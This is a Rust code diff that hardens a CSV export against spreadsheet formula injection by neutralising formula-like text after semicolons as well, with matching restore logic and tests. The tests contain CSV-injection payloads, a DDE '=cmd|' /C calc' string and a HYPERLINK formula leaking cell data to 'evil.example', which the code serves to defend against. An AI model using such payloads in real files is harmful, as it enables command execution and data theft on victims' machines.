@@ -1,5 +1,7 @@
 //! The results as a CSV file (RFC 4180), safe to open in a spreadsheet.
 
+use std::borrow::Cow;
+
 use super::row::RowOutcome;
 use super::time::iso8601_utc;
 
@@ -50,23 +52,20 @@ fn push_number(out: &mut String, mut n: u64) {
     out.extend(digits[at..].iter().map(|&d| char::from(d)));
 }
 
-/// Appends a text cell, [`neutralise`]d, without copying it first. RFC 4180: a field with a comma,
-/// quote, CR or LF is quoted, its quotes doubled; so is one with a space or tab at either end, which
-/// readers (this app's among them) trim otherwise.
+/// Appends a text cell, [`neutralise`]d (without copying it when there is nothing to neutralise).
+/// RFC 4180: a field with a comma, quote, CR or LF is quoted, its quotes doubled; so is one with a
+/// space or tab at either end, which readers (this app's among them) trim otherwise.
 fn push_cell(out: &mut String, text: &str) {
-    let prefix = if runs_as_formula(text) { "'" } else { "" };
-    let padded =
-        (prefix.is_empty() && text.starts_with([' ', '\t'])) || text.ends_with([' ', '\t']);
+    let text = neutralise(text);
+    let padded = text.starts_with([' ', '\t']) || text.ends_with([' ', '\t']);
     let special = text
         .bytes()
         .any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n'));
     if !padded && !special {
-        out.push_str(prefix);
-        out.push_str(text);
+        out.push_str(&text);
         return;
     }
     out.push('"');
-    out.push_str(prefix);
     let mut pieces = text.split('"');
     out.push_str(pieces.next().unwrap_or_default());
     for piece in pieces {
@@ -86,22 +85,41 @@ fn runs_as_formula(text: &str) -> bool {
         )
 }
 
-/// Prefixes `'` to text that [`runs_as_formula`], so spreadsheets show it instead of running it.
-pub fn neutralise(text: &str) -> String {
-    if runs_as_formula(text) {
-        format!("'{text}")
-    } else {
-        text.to_string()
+/// Prefixes `'` to text that [`runs_as_formula`], so spreadsheets show it instead of running it;
+/// likewise to each part after a `;`, where a spreadsheet whose list separator is `;` (German,
+/// French, Dutch… settings) starts a new cell when it opens the file.
+pub fn neutralise(text: &str) -> Cow<'_, str> {
+    if !text.split(';').any(runs_as_formula) {
+        return Cow::Borrowed(text);
     }
+    let mut out = String::with_capacity(text.len() + 2);
+    for (i, part) in text.split(';').enumerate() {
+        if i > 0 {
+            out.push(';');
+        }
+        if runs_as_formula(part) {
+            out.push('\'');
+        }
+        out.push_str(part);
+    }
+    Cow::Owned(out)
 }
 
-/// Undoes [`neutralise`]: the text a cell held before it was exported. (Text that itself began
-/// with `'` followed by a formula character cannot be told from neutralised text; it loses the `'`.)
+/// Undoes [`neutralise`]: the text a cell held before it was exported. (Text that itself began,
+/// or had a part after a `;` begin, with `'` followed by a formula character cannot be told from
+/// neutralised text; it loses the `'`.)
 pub fn restore(cell: &str) -> String {
-    match cell.strip_prefix('\'') {
-        Some(rest) if neutralise(rest) != rest => rest.to_string(),
-        _ => cell.to_string(),
+    let mut out = String::with_capacity(cell.len());
+    for (i, part) in cell.split(';').enumerate() {
+        if i > 0 {
+            out.push(';');
+        }
+        match part.strip_prefix('\'') {
+            Some(rest) if runs_as_formula(rest) => out.push_str(rest),
+            _ => out.push_str(part),
+        }
     }
+    out
 }
 
 #[cfg(test)]
@@ -245,6 +263,30 @@ mod tests {
     }
 
     #[test]
+    fn a_spreadsheet_splitting_at_semicolons_finds_no_formula() {
+        let text = "x;=cmd|' /C calc'!A0; and; +1;@SUM(A1);\t-2";
+        let all = rows([result(2, text, Outcome::Failed, Some(400), text)], []);
+        let export = export_csv(&all);
+        let body = export.strip_prefix('\u{feff}').unwrap();
+        let mut cells = 0;
+        for record in csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .delimiter(b';')
+            .from_reader(body.as_bytes())
+            .records()
+        {
+            for cell in record.unwrap().iter() {
+                cells += 1;
+                assert!(!runs_as_formula(cell), "{cell:?} runs as a formula");
+            }
+        }
+        assert!(cells > 8, "{cells} cells");
+        let back = crate::results::import_results(&export).unwrap();
+        assert_eq!((back[0].user(), back[0].message()), (text, text.into()));
+    }
+
+    #[test]
     fn formula_payloads_are_neutralised() {
         let payloads = [
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
@@ -259,7 +301,25 @@ mod tests {
         for p in payloads {
             assert_eq!(neutralise(p), format!("'{p}"), "{p:?}");
         }
-        for harmless in ["jdoe@example.com", "a=b", "", " plain", "x-1", "'quoted"] {
+        let after_semicolon = [
+            ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
+            ("Removed; -1 users left", "Removed;' -1 users left"),
+            ("=a;b;@c", "'=a;b;'@c"),
+        ];
+        for (text, written) in after_semicolon {
+            assert_eq!(neutralise(text), written);
+            assert_eq!(restore(written), text);
+        }
+        for harmless in [
+            "jdoe@example.com",
+            "a=b",
+            "",
+            " plain",
+            "x-1",
+            "'quoted",
+            "a;b",
+            "Doe; John",
+        ] {
             assert_eq!(neutralise(harmless), harmless);
             assert_eq!(restore(harmless), harmless);
         }
